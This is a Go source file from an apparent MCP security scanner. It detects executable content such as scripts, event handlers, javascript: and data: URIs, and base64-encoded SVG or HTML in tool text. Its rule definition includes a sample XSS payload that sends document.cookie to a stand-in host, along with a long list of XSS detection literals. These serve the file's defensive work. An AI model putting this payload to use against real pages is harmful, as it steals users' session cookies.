package detect

import (
	"bytes"
	"slices"
	"strings"

	"github.com/mcp-watchdog/mcp-watchdog/internal/finding"
	"github.com/mcp-watchdog/mcp-watchdog/internal/message"
	"github.com/mcp-watchdog/mcp-watchdog/internal/unmask"
	"github.com/mcp-watchdog/mcp-watchdog/internal/unmask/markup"
)

// active_content: programs in text that a client may render. Clients show
// results as markdown, some as HTML, MCP Apps (ui:// resources) on purpose;
// what runs there reads the conversation and the person's session. Desktop
// clients have been taken over so (CVE-2025-6514 opened an address, others ran
// handlers in previews of markdown).
//
// Pages are full of scripts, and people read pages with assistants, so in a
// page only what steals or shows off is an attack. A description has no use for
// any of it.

var activeContent = &finding.Rule{
	ID: "active_content", Class: "xss_active_content", Severity: finding.High,
	Title:     "a text brings a program for whoever renders it",
	Catches:   "Scripts, event handlers, javascript: and data:text/html addresses, frames with content, SVG that runs code and CSS expressions in results, resources and prompts, when they show off (alert(1)), send cookies or storage away, or build code from pieces; any of them in the description of a tool, in an icon or in a question to the user. They are cut.",
	Example:   `<img src=x onerror="fetch('https://example.net/?c='+document.cookie)">`,
	Misses:    "Scripts of whole pages that do what pages do. Source code and what markdown shows as code stay as they are.",
	Exception: "Examples can stand in a code block or a code span.",
}

func detectActiveContent(t *Text) {
	if t.Surface&message.Media != 0 {
		t.activeMedia()
		return
	}
	if t.Surface&(message.Icon|message.ResourceURI) != 0 {
		t.activeAddress()
		return
	}
	told := t.Offered || t.Surface&(message.ElicitationText|message.SamplingText|message.StatusText|message.ProgressText) != 0
	var bad, odd group
	for _, m := range markup.Active(t.Text()) {
		switch {
		case told && mentioned(t.Text(), m):
		case m.Weight == unmask.Carrier || told:
			bad.add(m)
		case m.Weight == unmask.Words:
			odd.add(m)
		}
	}
	if len(bad.spans) > 0 {
		t.Report(finding.Finding{
			Rule: activeContent, Severity: finding.High, Seen: finding.Mask(bad.hidden),
			Why: plural(len(bad.spans), "part of the text runs", "parts of the text run") + " code where it is rendered",
		}, bad.spans, "")
	} else if len(odd.spans) > 0 {
		t.Report(finding.Finding{
			Rule: activeContent, Severity: finding.Medium, Seen: finding.Mask(odd.hidden),
			Why: "the text is little more than a script for whoever renders it",
		}, nil, "")
	}
}

// mentioned reports whether a description speaks of scripts, as in "removes all
// <script> tags": the bare tag runs nothing, and it is said what it is.
func mentioned(text string, m unmask.Mark) bool {
	if m.Weight == unmask.Carrier || !strings.EqualFold(text[m.Start:m.End], "<script>") {
		return false
	}
	next := strings.TrimLeft(text[m.End:], " `'\"")
	for _, w := range []string{"tag", "element", "block", "and <", "or <", ", <", "node", "section"} {
		if len(next) >= len(w) && strings.EqualFold(next[:len(w)], w) {
			return true
		}
	}
	return false
}

// activeAddress looks at an address that a client opens or shows.
func (t *Text) activeAddress() {
	text := t.Text()
	if ms := markup.Active("](" + text + ")"); len(ms) > 0 && ms[0].Weight == unmask.Carrier {
		t.Report(finding.Finding{
			Rule: activeContent, Severity: finding.High, Seen: finding.Mask(text),
			Why: "an address runs a program or shows a page of the server's own making",
		}, []message.Span{{Start: 0, End: len(text)}}, "")
	}
}

// maxMedia bounds how much of a picture or page in base64 is decoded.
const maxMedia = 256 << 10

// mediaStarts begin pictures and pages that can hold programs, in base64.
var mediaStarts = [...]string{"PHN2Zy", "PD94bW", "PGh0bW", "PCFET0", "PCFkb2", "PGltZy", "PHNjcm", "PGJvZH", "PGRpdi", "PGhlYW", "PGlmcm"}

// activeMedia looks into a picture or a page that comes in base64: hosts that
// render it run what it holds.
func (t *Text) activeMedia() {
	text := t.Text()
	if !slices.ContainsFunc(mediaStarts[:], func(s string) bool { return strings.HasPrefix(text, s) }) {
		return
	}
	b, err := decode64(text[:min(len(text), maxMedia)&^3])
	if len(text) < maxMedia {
		b, err = decode64(text)
	}
	if err != nil {
		return
	}
	for _, m := range markup.Active(bytesString(b)) {
		if m.Weight == unmask.Carrier {
			t.Report(finding.Finding{
				Rule: activeContent, Severity: finding.High, Seen: finding.Mask(m.Hidden), Why: "a picture or page in base64 runs code where it is rendered",
			}, []message.Span{{Start: 0, End: len(text)}}, "")
			return
		}
	}
}

// activeLiterals begin what runs.
var activeLiterals = []string{
	"<script", "javascript:", "vbscript:", "data:text/html", "data:image/svg", "srcdoc", "expression(", "alert(", "alert`", "document.cookie", "localstorage",
	"constructor.c", "'constructor'", "onerror", "onload", "onmouse", "onfocus", "onclick", "ontoggle", "onanimation", "onpointer", "onbegin", "onstart", "onwheel", "onhash",
	"onpage", "onblur", "oninput", "onkey", "onscroll", "ondrag", "onresize", "oncontext", "onmessage", "ontransition", "onbefore", "onafter", "onunload", "onsubmit",
	"onselect", "onsearch", "onpaste", "oncopy", "oncut", "oninvalid", "onended", "onplay", "oncanplay", "ontime", "onfinish", "onshow", "ondblclick", "ontouch", "onauxclick",
	"&#106", "&#x6a", "&#74;", "&#x4a", "&#000", "onend", "onrepeat", "onsecurity", "onactivate", "java&", "jav&#", "java\\", "-moz-binding",
	"phn2zy", "pd94bw", "pgh0bw", "pcfet0", "pcfkb2", "pgltzy", "phnjcm", "pgjvzh", "pgrpdi", "pghlyw", "pglmcm", // see mediaStarts
}

// runsSomewhere takes a second look: a handler has its name from an attribute,
// and words of code stand near something that runs them.
func runsSomewhere(content []byte, at int) bool {
	c := content[at] | 0x20
	switch {
	case c == 'p': // the start of a string
		return at > 0 && content[at-1] == '"'
	case c == '<', c == 'j', c == 'v', c == '-', content[at] == '&':
		return true
	case c == 'd' && content[at+1]|0x20 == 'a':
		return true
	case c == 'o':
		return handlerAt(content, at)
	case c == 'a' && at > 0 && bytes.IndexByte([]byte(";-+|"), content[at-1]) >= 0: // behind the end of a string
		return true
	}
	around := content[max(0, at-400):min(len(content), at+100)]
	return bytes.IndexByte(around, '<') >= 0 || bytes.Contains(around, []byte("u003c")) || bytes.Contains(around, []byte("cript:")) || bytes.Contains(around, []byte("{{"))
}

// handlerAt reports whether a word that starts with "on" is the name of an
// attribute with a value: blanks or quotes in front, a sign behind, and no brace
// as in JSX behind that.
func handlerAt(content []byte, at int) bool {
	if at > 0 {
		switch p := content[at-1]; {
		case p|0x20 >= 'a' && p|0x20 <= 'z' && (at < 2 || content[at-2] != '\\'), p >= '0' && p <= '9', p == '.', p == '_':
			return false
		}
	}
	i := at
	for i < len(content) && (content[i]|0x20 >= 'a' && content[i]|0x20 <= 'z') {
		i++
	}
	for i < len(content) && (content[i] == ' ' || content[i] == '\\' && i+1 < len(content) && (content[i+1] == 'n' || content[i+1] == 't')) {
		i++
		if content[i-1] == '\\' {
			i++
		}
	}
	if i >= len(content) || content[i] != '=' {
		return i < len(content) && (content[i] == '&' || content[i] == '\\' || content[i] == '%')
	}
	for i++; i < len(content) && content[i] == ' '; {
		i++
	}
	return i >= len(content) || content[i] != '{' && content[i] != '=' && content[i] != '>'
}
